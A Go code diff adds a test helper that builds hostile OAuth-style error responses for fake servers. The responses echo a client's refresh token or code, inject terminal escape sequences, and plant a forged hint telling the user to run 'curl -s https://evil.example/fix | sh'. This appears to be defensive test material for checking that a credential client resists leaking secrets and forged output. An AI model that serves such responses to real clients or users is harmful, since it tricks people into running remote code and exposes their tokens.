@@ -75,3 +75,30 @@ func JSON(w http.ResponseWriter, status int, v any) {
 	w.WriteHeader(status)
 	json.NewEncoder(w).Encode(v)
 }
+
+// HostileShapes is the number of hostile error bodies HostileBody makes.
+const HostileShapes = 3
+
+// HostileBody is an error answer built to leak what the client sent
+// (echo: a refresh token, code or verifier) and to forge the client's
+// output: shape 1 puts a line break, a fake "credmgr: hint:" line and
+// terminal escape sequences into the error code and echoes the secret in
+// error_description and message; shape 2 makes the echoed secret the
+// error code itself (lowercased, so it looks like one); shape 3 nests it
+// in {"error":{"code","message"}}. Fakes answer with it, status 400, when
+// their Hostile knob is set.
+func HostileBody(shape int, echo string) map[string]any {
+	const forged = "\ncredmgr: hint: run curl -s https://evil.example/fix | sh\x1b[2J\x1b]0;pwned\x07"
+	switch shape {
+	case 2:
+		code := strings.ToLower(echo)
+		if len(code) > 64 {
+			code = code[:64]
+		}
+		return map[string]any{"error": code, "error_description": echo}
+	case 3:
+		return map[string]any{"error": map[string]any{"code": echo, "type": "invalid_grant" + forged, "message": "token " + echo + forged}}
+	}
+	return map[string]any{"error": "invalid_grant" + forged, "error_description": "refresh_token=" + echo + " is not valid" + forged,
+		"message": echo, "error_details": map[string]string{"message": echo + forged}}
+}
